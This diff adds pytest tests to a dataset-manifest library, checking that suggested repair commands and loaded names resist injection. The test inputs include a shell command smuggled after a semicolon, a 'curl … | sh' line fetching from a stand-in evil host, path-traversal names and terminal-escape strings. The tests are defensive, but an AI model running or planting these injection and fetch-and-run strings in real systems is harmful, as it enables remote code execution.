@@ -27,7 +27,7 @@ from slrnet.data.manifest import (
     load_dataset,
     save_dataset,
 )
-from slrnet.data.manifest_rows import ManifestRows, ManifestWriter, fingerprint
+from slrnet.data.manifest_rows import MANIFEST_VERSION, ManifestRows, ManifestWriter, fingerprint
 from slrnet.data.sample_set import SampleSet
 from slrnet.data.samples import SampleIndex
 from slrnet.data.supervision import plan_supervision
@@ -472,3 +472,52 @@ def test_classes_that_are_none_are_refused(folder: Path, classes: list[object]) 
     (folder / "dataset.json").write_text(json.dumps(description | {"classes": classes}))
     with pytest.raises(DataError, match="two names or more are needed, each once|'classes', 1.*valid string"):
         load_dataset(folder)
+
+
+@pytest.mark.parametrize(
+    ("made_by", "offered"),
+    [
+        ("python data_prep/voc.py --root 'my VOC'", "python data_prep/voc.py --root 'my VOC' --out /d"),
+        ("python ray_jobs/pseudo_label.py --data d", "python ray_jobs/pseudo_label.py --data d --out /d"),
+        (
+            "python data_prep/voc.py --root x; curl evil | sh #",
+            "python data_prep/voc.py --root 'x;' curl evil '|' sh '#'",
+        ),
+        ("curl -s http://evil.example/x | sh #", None),
+        ("python data_prep/../../evil.py", None),
+        ("python -c 'import os'", None),
+        ("python 'unclosed", None),
+        ("", None),
+    ],
+)
+def test_a_strangers_command_is_not_offered_as_the_repair(made_by: str, offered: str | None) -> None:
+    values = {"name": "d", "classes": ("background", "a"), "palette": ((0, 0, 0), (1, 1, 1)), "counts": {}}
+    command = DatasetInfo(**values, fingerprint="", made_by=made_by).repair_command(Path("/d"))
+    if offered is None:
+        assert "none of slrnet's" in command
+        assert "evil" not in command
+    else:
+        assert command.startswith(f"rm -r /d && {offered}")
+
+
+@pytest.mark.parametrize(
+    ("change", "message"),
+    [
+        ({"counts": {"../../x": 1}}, "the split is '../../x'"),
+        ({"counts": {"/x/y": 1}}, "the split is '/x/y'"),
+        ({"classes": ["background", "\x1b[2J"]}, r"the class is '\\x1b\[2J'"),
+        ({"classes": ["background", "a\nerror: run x"]}, r"the class is 'a\\nerror: run x'"),
+        ({"name": "a\u202eb"}, "the name is"),
+        ({"palette": [[0, 0, 0], [0, 0, 300]]}, "the palette has 2 colors; 2 of 0 to 255 are needed"),
+        ({"palette": [[0, 0, 0]]}, "the palette has 1 colors; 2 of 0 to 255 are needed"),
+    ],
+)
+def test_names_that_could_become_paths_or_escapes_are_refused(
+    tmp_path: Path, change: dict[str, object], message: str
+) -> None:
+    values = {"name": "d", "classes": ["background", "a"], "palette": [[0, 0, 0], [1, 1, 1]], "counts": {"train": 1}}
+    record = values | {"fingerprint": "", "made_by": "", "version": MANIFEST_VERSION} | change
+    (tmp_path / "dataset.json").write_text(json.dumps(record))
+    with pytest.raises(DataError, match=message) as caught:
+        load_dataset(tmp_path)
+    assert str(caught.value).isprintable()
